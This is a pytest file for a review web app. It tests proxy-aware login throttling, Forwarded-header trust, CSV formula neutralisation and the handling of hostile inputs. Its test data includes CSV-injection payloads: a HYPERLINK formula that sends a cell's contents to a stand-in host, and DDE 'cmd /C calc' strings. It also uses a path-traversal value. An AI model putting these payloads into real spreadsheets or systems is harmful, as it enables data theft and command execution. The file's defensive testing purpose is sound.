"""Issue 10 on the review app: login throttling keyed on the real client address
(through the configured proxies) with growing waits instead of lock-outs,
spreadsheet formulas neutralised in CSV exports, and hostile lengths and
characters that PostgreSQL, unlike SQLite, would refuse.

The review tables run on SQLite and on a fresh PostgreSQL database per test
(``TEST_POSTGRES_URL``, started by scripts/ensure-services.sh).
"""

from __future__ import annotations

import csv
import io
import json
import os
import uuid
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Iterator

import pytest
from sqlalchemy import create_engine, text

from bot.review.links import token_for
from tests.test_review_analysis import Conversation
from tests.test_review_web import PASSWORD, csrf_of, login_as, make_site, session_cookies, wait_out

BACKENDS = ("sqlite", "postgresql")
WRONG = "equivocada-del-todo"
LEAD = {"X-Forwarded-For": "192.0.2.10"}  # a lead, as the proxy reports her
# An attacker who writes the lead's address himself; the proxy appends his real one.
ATTACKER = {"X-Forwarded-For": "192.0.2.10, 198.51.100.7"}


@pytest.fixture(params=BACKENDS)
def review_db_url(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[str]:
    """Where the review tables live: SQLite, or a PostgreSQL database made for this test."""
    if request.param == "sqlite":
        yield f"sqlite:///{tmp_path / 'review.db'}"
        return
    admin = os.environ.get("TEST_POSTGRES_URL")
    if not admin:
        pytest.fail(
            "TEST_POSTGRES_URL no está definida: ejecuta las pruebas con `make test` o con "
            'eval "$(scripts/ensure-services.sh)"; export TEST_POSTGRES_URL TEST_REDIS_URL'
        )
    name = f"eco_review_{uuid.uuid4().hex[:12]}"
    engine = create_engine(admin, isolation_level="AUTOCOMMIT", future=True)
    with engine.connect() as connection:
        connection.execute(text(f"CREATE DATABASE {name}"))
    try:
        yield admin.rsplit("/", 1)[0] + "/" + name
    finally:
        with engine.connect() as connection:
            connection.execute(text(f"DROP DATABASE IF EXISTS {name} WITH (FORCE)"))
        engine.dispose()


@pytest.fixture(autouse=True)
def still_clock(monkeypatch: pytest.MonkeyPatch) -> datetime:
    """The accounts' clock stands still; ``wait_out`` is how time passes.

    The first wait is one second, and on a loaded CI machine two test requests
    (each starts a server) took longer than that: the wait ran out before the
    attempt it should have refused. Frozen, the figures are exact.
    """
    import bot.review.accounts as accounts

    now = datetime.now(timezone.utc)
    monkeypatch.setattr(accounts, "_now", lambda: now)
    return now


def retry_after(response) -> int:
    assert response.status == 429, response.text
    return int(response.headers["retry-after"])


# ------------------------------------------------------------ client address
def test_without_proxies_count_forwarded_for_is_not_believed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, review_db_url: str) -> None:
    site = make_site(tmp_path, monkeypatch, review_db_url)
    assert login_as(site, "lider", WRONG, {"X-Forwarded-For": "203.0.113.5"}).status == 401
    # Another address in the header changes nothing: the socket peer already failed.
    assert retry_after(login_as(site, "lider", PASSWORD, {"X-Forwarded-For": "203.0.113.6"})) == 1


def test_behind_the_proxy_an_attacker_slows_down_only_his_own_address(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, review_db_url: str
) -> None:
    site = make_site(tmp_path, monkeypatch, review_db_url, env={"PROXIES_COUNT": "1"})
    failures = 0
    while failures < 21:  # more than the 20 that used to lock out everyone behind the proxy
        attempt = login_as(site, f"victima{failures}", WRONG, ATTACKER)
        if attempt.status == 429:
            wait_out(review_db_url, retry_after(attempt))
            continue
        assert attempt.status == 401, attempt.text
        failures += 1
    # The attacker waits, even with a right password; the lead he pretends to be does not.
    assert retry_after(login_as(site, "lider", PASSWORD, ATTACKER)) > 60
    assert login_as(site, "lider", PASSWORD, LEAD).status == 302


def test_waits_grow_after_each_failure_up_to_a_cap_and_a_success_resets_them(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, review_db_url: str
) -> None:
    site = make_site(tmp_path, monkeypatch, review_db_url)
    waits = []
    for _ in range(13):
        assert login_as(site, "lider", WRONG).status == 401
        refused = login_as(site, "lider", PASSWORD)  # the right password is not even checked
        waits.append(retry_after(refused))
        seconds = waits[-1]
        expected = f"Espera {seconds} segundo{'s' if seconds != 1 else ''}"
        assert "Demasiados intentos fallidos." in refused.text and expected in refused.text
        wait_out(review_db_url, seconds)
    assert waits[:4] == [1, 2, 4, 8]
    assert all(later == min(earlier * 2, waits[-1]) for earlier, later in zip(waits, waits[1:])), waits
    assert waits[-1] == waits[-2] and 60 <= waits[-1] <= 3600, waits  # capped at some minutes
    assert login_as(site, "lider", PASSWORD).status == 302
    assert login_as(site, "lider", WRONG).status == 401
    assert retry_after(login_as(site, "lider", PASSWORD)) == 1  # counting starts again


def test_five_failures_on_a_user_name_slow_it_down_from_any_address(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, review_db_url: str
) -> None:
    site = make_site(tmp_path, monkeypatch, review_db_url, env={"PROXIES_COUNT": "1"})
    for i in range(5):
        assert login_as(site, "lider", WRONG, {"X-Forwarded-For": f"203.0.113.{i}"}).status == 401
    first = retry_after(login_as(site, "lider", PASSWORD, {"X-Forwarded-For": "203.0.113.50"}))
    wait_out(review_db_url, first)
    assert login_as(site, "lider", WRONG, {"X-Forwarded-For": "203.0.113.51"}).status == 401
    assert retry_after(login_as(site, "lider", PASSWORD, {"X-Forwarded-For": "203.0.113.52"})) > first
    assert login_as(site, "otra", WRONG, {"X-Forwarded-For": "203.0.113.53"}).status == 401  # other names are free


def test_one_address_failing_on_a_lead_never_makes_her_wait_elsewhere(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, review_db_url: str
) -> None:
    site = make_site(tmp_path, monkeypatch, review_db_url, env={"PROXIES_COUNT": "1"})
    failures = 0
    while failures < 12:  # well past the 5 that make a user name wait at that address
        attempt = login_as(site, "lider", WRONG, ATTACKER)
        if attempt.status == 429:
            wait_out(review_db_url, retry_after(attempt))
            continue
        assert attempt.status == 401, attempt.text
        failures += 1
    assert retry_after(login_as(site, "lider", PASSWORD, ATTACKER)) > 60  # the attacker waits
    assert login_as(site, "lider", PASSWORD, LEAD).status == 302  # the lead, elsewhere, does not


def test_forwarded_header_is_believed_only_with_the_proxy_secret(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, review_db_url: str
) -> None:
    site = make_site(tmp_path, monkeypatch, review_db_url, env={"FORWARDED_SECRET": "secreto-del-proxy"})
    assert login_as(site, "lider", WRONG, {"Forwarded": "for=198.51.100.7;by=secreto-del-proxy"}).status == 401
    assert login_as(site, "lider", PASSWORD, {"Forwarded": "for=192.0.2.10;by=secreto-del-proxy"}).status == 302
    # Without the secret the header is the client's word: both attempts are the socket peer's.
    assert login_as(site, "lider", WRONG, {"Forwarded": "for=198.51.100.8;by=otro"}).status == 401
    assert retry_after(login_as(site, "lider", PASSWORD, {"Forwarded": "for=192.0.2.11;by=otro"})) == 1


def test_an_ipv6_client_is_one_network_not_one_address(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, review_db_url: str) -> None:
    """A customer picks any address in its /64: hopping inside it gets round no wait."""
    site = make_site(tmp_path, monkeypatch, review_db_url, env={"PROXIES_COUNT": "1"})
    assert login_as(site, "lider", WRONG, {"X-Forwarded-For": "2001:db8:1:2::1"}).status == 401
    assert retry_after(login_as(site, "lider", PASSWORD, {"X-Forwarded-For": "2001:db8:1:2:ffff::7"})) == 1
    assert login_as(site, "lider", PASSWORD, {"X-Forwarded-For": "2001:db8:1:3::1"}).status == 302


@pytest.mark.parametrize("value", ["dos", "-1", "1.5"])
def test_a_bad_proxies_count_stops_the_server_with_its_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, value: str) -> None:
    with pytest.raises(SystemExit, match="PROXIES_COUNT"):
        make_site(tmp_path, monkeypatch, env={"PROXIES_COUNT": value})


@pytest.mark.parametrize("value", ["Marte/Olympus", "../../etc/passwd"])
def test_a_bad_review_timezone_stops_the_server_with_its_name(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, value: str
) -> None:
    """With the variable named, in Spanish: not a zoneinfo KeyError traceback."""
    with pytest.raises(SystemExit, match="REVIEW_TIMEZONE"):
        make_site(tmp_path, monkeypatch, env={"REVIEW_TIMEZONE": value})


def test_cookies_are_secure_behind_an_https_proxy_only_when_it_is_trusted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    https = {**LEAD, "X-Forwarded-Proto": "https"}
    trusted = make_site(tmp_path / "a", monkeypatch, env={"PROXIES_COUNT": "1"})
    assert "Secure" in login_as(trusted, "lider", PASSWORD, https).headers["set-cookie"]
    untrusted = make_site(tmp_path / "b", monkeypatch)
    assert "Secure" not in login_as(untrusted, "lider", PASSWORD, https).headers["set-cookie"]


# ------------------------------------------------------------------ CSV
FORMULAS = [
    '=HYPERLINK("http://malo.example/robar?d="&A1,"Ver factura")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = "el pago = 100 pesos - comisión"
FORMULA_SENDER = "\r=1+2"  # REST senders name themselves (customer text loses its \r on reading)
STARTS = ("=", "+", "-", "@", "\t", "\r")


def _formula_site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    conversation = Conversation(start=datetime.now(timezone.utc) - timedelta(hours=1), channel="rest")
    for line in FORMULAS + [HARMLESS]:
        conversation.user(line, "out_of_scope", 0.2).bot("No te entendí")
    return make_site(tmp_path, monkeypatch, more={FORMULA_SENDER: conversation})


def _csv_rows(body: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.lstrip("\ufeff"), newline="")))


def test_transcript_csv_neutralises_formulas_and_json_keeps_the_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    site = _formula_site(tmp_path, monkeypatch)
    cookies = session_cookies(site)
    base = f"/revision/c/{token_for(FORMULA_SENDER)}/transcripcion"
    _, as_csv = site.test_client.get(base + ".csv", cookies=cookies)
    _, as_json = site.test_client.get(base + ".json", cookies=cookies)
    texts = [row["texto"] for row in json.loads(as_json.text) if row["quien"] == "cliente"]
    assert texts[:5] == FORMULAS[:5] and texts[-1] == HARMLESS  # JSON: the words as typed
    said = [row["texto"] for row in _csv_rows(as_csv.text) if row["quien"] == "cliente"]
    assert said == ["'" + line for line in texts[:-1]] + [HARMLESS]


def test_list_csv_neutralises_a_formula_sender(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    site = _formula_site(tmp_path, monkeypatch)
    cookies = session_cookies(site)
    _, as_csv = site.test_client.get("/revision/conversaciones.csv", cookies=cookies)
    cells = [cell for row in _csv_rows(as_csv.text) for cell in row.values()]
    assert "'" + FORMULA_SENDER in cells and FORMULA_SENDER not in cells
    assert not any(cell.startswith(STARTS) for cell in cells), cells
    _, as_json = site.test_client.get("/revision/conversaciones.json", cookies=cookies)
    assert FORMULA_SENDER in [row["conversacion"] for row in json.loads(as_json.text)]


# ------------------------------------------------------- hostile lengths
@pytest.mark.parametrize(
    "username", ["a" * 5000, "lider\x00", "lider" + "é" * 150, "x" * 151], ids=["5000", "nul", "acentos", "151"]
)
def test_hostile_user_names_are_a_normal_failed_login(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, review_db_url: str, username: str
) -> None:
    site = make_site(tmp_path, monkeypatch, review_db_url)
    refused = login_as(site, username, PASSWORD)
    assert refused.status == 401 and "Usuario o contraseña incorrectos." in refused.text
    assert retry_after(login_as(site, username, PASSWORD)) == 1  # it counted as a failure


def test_a_very_long_export_subject_is_logged(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, review_db_url: str) -> None:
    site = make_site(tmp_path, monkeypatch, review_db_url)
    cookies = session_cookies(site)
    for path in ("/revision/conversaciones.csv", "/revision/conversaciones.json"):
        # Each filter keeps 200 characters; URL-encoded accents make the logged subject far longer.
        _, export = site.test_client.get(path, params={"texto": "añadió " * 40, "canal": "ñ" * 200}, cookies=cookies)
        assert export.status == 200, export.text
    _, overview = site.test_client.get("/revision/resumen", cookies=cookies)
    assert "Exportó la lista (CSV)" in overview.text and "Exportó la lista (JSON)" in overview.text


def test_csrf_tokens_with_any_characters_are_refused_cleanly(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    site = make_site(tmp_path, monkeypatch)
    _, form = site.test_client.get("/revision/entrar")
    _, login = site.test_client.post(
        "/revision/entrar", data={"usuario": "lider", "clave": PASSWORD, "csrf": "señal-ñ"},
        cookies={"revision_csrf": form.cookies.get("revision_csrf")}, allow_redirects=False,
    )
    assert login.status == 403 and "La sesión del formulario caducó" in login.text
    cookies = session_cookies(site)
    _, page = site.test_client.get("/revision/conversaciones", cookies=cookies)
    assert csrf_of(page.text)
    _, logout = site.test_client.post("/revision/salir", data={"csrf": "señal-ñ"}, cookies=cookies, allow_redirects=False)
    assert logout.status == 403 and "token CSRF" in logout.text


def test_hostile_filters_are_ignored_not_failing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, review_db_url: str) -> None:
    site = make_site(tmp_path, monkeypatch, review_db_url)
    cookies = session_cookies(site)
    for path in ("/revision/conversaciones", "/revision/conversaciones.csv", "/revision/conversaciones.json"):
        for args in ({"canal": "\x00"}, {"tipo": "a\x00b"}, {"texto": "pago\x00"}, {"pagina": "9" * 400}):
            _, answer = site.test_client.get(path, params=args, cookies=cookies, allow_redirects=False)
            assert answer.status in (200, 302), (path, args, answer.status)
    _, far = site.test_client.get("/revision/conversaciones", params={"pagina": "9" * 400}, cookies=cookies, allow_redirects=False)
    assert far.status == 302 and "pagina" not in far.headers["location"]  # the last page, as for any page past the end
